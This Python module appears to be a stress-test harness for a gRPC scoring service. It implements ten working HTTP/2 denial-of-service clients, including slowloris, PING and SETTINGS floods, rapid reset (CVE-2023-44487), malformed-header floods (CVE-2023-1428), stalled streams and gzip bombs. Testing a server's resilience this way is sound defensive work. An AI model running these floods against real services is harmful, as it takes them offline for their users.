"""Clients that mean harm, one kind at a time, beside others that only want their answers.

Each kind goes on until its time is over; what the server closes it opens anew.
"""

import gzip
import itertools
import time

import h2

EVALUATE = "bellwether.v1.ScoringService/Evaluate"
HEADER_BYTES = 8 << 10
STALLED_STREAMS = 10_000
STREAMS_OF_ONE = 100  # of a connection that stalls
BOMB_BYTES = 12 << 20  # of zeros: a thousandth of it on the wire


def _until(end, attack, address):
    """Repeats an attack, each time on a new connection. How often it came so far."""
    rounds = 0
    while time.monotonic() < end:
        rounds += 1
        try:
            with h2.Connection(address) as connection:
                attack(connection, end)
        except OSError:
            time.sleep(0.01)  # the server has had enough of this one
    return rounds


def _forever(end):
    return itertools.takewhile(lambda _: time.monotonic() < end, itertools.count())


def slow_loris(address, end):
    """Many connections that send a byte of their greeting now and then."""
    connections = []
    try:
        for _ in range(200):
            connections.append(h2.Connection(address, greet=False))
        for index in _forever(end):
            at = index % len(h2.PREFACE)
            for number, connection in enumerate(connections):
                try:
                    connection.send(h2.PREFACE[at:at + 1])
                except OSError:
                    connections[number] = h2.Connection(address, greet=False)
            time.sleep(0.2)
    finally:
        for connection in connections:
            connection.socket.close()
    return len(connections)


def huge_metadata(address, end):
    """A call with headers that are far larger than they may be, in as many frames as it takes."""
    def attack(connection, end):
        for number in _forever(end):
            stream = 2 * number + 1
            block = h2.grpc_headers(EVALUATE)
            connection.send(h2.frame(h2.HEADERS, 0, stream, block))
            filler = b"".join(h2.header(f"x-filler-{i}", b"x" * 1000) for i in range(8))
            for _ in range(40):
                connection.send(h2.frame(h2.CONTINUATION, 0, stream, filler))
            connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, stream, b""))
    return _until(end, attack, address)


def odd_headers(address, end):
    """Headers that gRPC cannot read, and kilobytes of others behind them in the same block
    (CVE-2023-1428)."""
    usual = [(":method", "POST"), (":path", "/" + EVALUATE), (":authority", "localhost"),
             ("content-type", "application/grpc")]
    odd = [[(":scheme", "http"), ("te", "x")], [(":scheme", "odd"), ("te", "trailers")],
           [(":scheme", "http"), ("te", "trailers"), ("grpclb_client_stats", "x")]]
    more = [(1, 15_000), (3, 3_000), (9, 1_000), (5, 8_000)]
    turns = itertools.cycle(itertools.product(odd, more, (False, True)))

    def attack(connection, end):
        first, (count, size), last = next(turns)
        fields = [*usual, *first] if last else [*first, *usual]
        connection.send(h2.frame(h2.HEADERS, 0, 1, b"".join(h2.header(*field) for field in fields)))
        for index in range(count):
            connection.send(h2.frame(h2.CONTINUATION, 0, 1, h2.header(f"x-{index}", b"x" * size)))
        connection.send(h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, h2.header("x-last", b"x")))
        connection.is_closed_within(0.05)
    return _until(end, attack, address)


def ping_flood(address, end):
    """Pings, as fast as they can be written."""
    def attack(connection, end):
        pings = h2.frame(h2.PING, 0, 0, b"\0" * 8) * 1000
        for _ in _forever(end):
            connection.send(pings)
    return _until(end, attack, address)


def settings_flood(address, end):
    """Settings that each want an answer."""
    def attack(connection, end):
        settings = h2.frame(h2.SETTINGS, 0, 0) * 1000
        for _ in _forever(end):
            connection.send(settings)
    return _until(end, attack, address)


def rapid_reset(address, end):
    """Calls that are cancelled in the moment in which they begin (CVE-2023-44487)."""
    def attack(connection, end):
        block = h2.grpc_headers(EVALUATE)
        for turn in _forever(end):
            first = 200 * turn + 1
            connection.send(b"".join(
                h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block) +
                h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4, "big"))
                for stream in range(first, first + 200, 2)))
    return _until(end, attack, address)


def stalled_streams(address, end):
    """Ten thousand calls that begin and never say what they want."""
    block = h2.grpc_headers(EVALUATE)
    connections = []
    try:
        for _ in range(STALLED_STREAMS // STREAMS_OF_ONE):
            try:
                connections.append(h2.Connection(address))
                connections[-1].send(b"".join(
                    h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block)
                    for stream in range(1, 2 * STREAMS_OF_ONE, 2)))
            except OSError:  # the server ended it, or takes no more from here
                continue
        while time.monotonic() < end:
            time.sleep(0.1)
    finally:
        for connection in connections:
            connection.socket.close()
    return len(connections) * STREAMS_OF_ONE


def oversize_messages(address, end):
    """A message that says it is a gigabyte, and begins to come."""
    def attack(connection, end):
        for number in _forever(end):
            stream = 2 * number + 1
            connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, h2.grpc_headers(EVALUATE)))
            connection.send(h2.frame(h2.DATA, 0, stream, b"\0\x40\0\0\0" + b"x" * 8192))
    return _until(end, attack, address)


def malformed_frames(address, end):
    """Frames of no kind, of the wrong length, on streams that do not exist; and plain noise."""
    bad = itertools.cycle([
        h2.frame(h2.DATA, 0, 0, b"data of no stream"),
        h2.frame(h2.HEADERS, h2.END_HEADERS, 2, h2.grpc_headers(EVALUATE)),
        h2.frame(h2.HEADERS, h2.END_HEADERS, 1, b"\xff" * 64),
        h2.frame(h2.WINDOW_UPDATE, 0, 0, b"\0\0\0\0"),
        h2.frame(h2.SETTINGS, 0, 0, b"\0\1"),
        b"\xff\xff\xff" + b"\xee" * 100_000,
        h2.frame(h2.CONTINUATION, 0, 7, b"of nothing")])

    def attack(connection, end):
        connection.send(next(bad))
        connection.is_closed_within(0.05)
    return _until(end, attack, address)


def gzip_bombs(address, end):
    """Messages that are a thousand times as large once they are unpacked."""
    bomb = h2.message(gzip.compress(b"\0" * BOMB_BYTES, 9), compressed=True)
    pieces = [bomb[at:at + 16384] for at in range(0, len(bomb), 16384)]
    block = h2.grpc_headers(EVALUATE, [("grpc-encoding", "gzip")])

    def attack(connection, end):
        for number in _forever(end):
            stream = 2 * number + 1
            connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, block))
            for piece in pieces:
                last = h2.END_STREAM if piece is pieces[-1] else 0
                connection.send(h2.frame(h2.DATA, last, stream, piece))
            for kind, _, of, _ in connection.frames(1):  # its answer, before the next one
                if of == stream and kind in (h2.HEADERS, h2.RST_STREAM):
                    break
    return _until(end, attack, address)


KINDS = [slow_loris, huge_metadata, odd_headers, ping_flood, settings_flood, rapid_reset,
         stalled_streams, oversize_messages, malformed_frames, gzip_bombs]
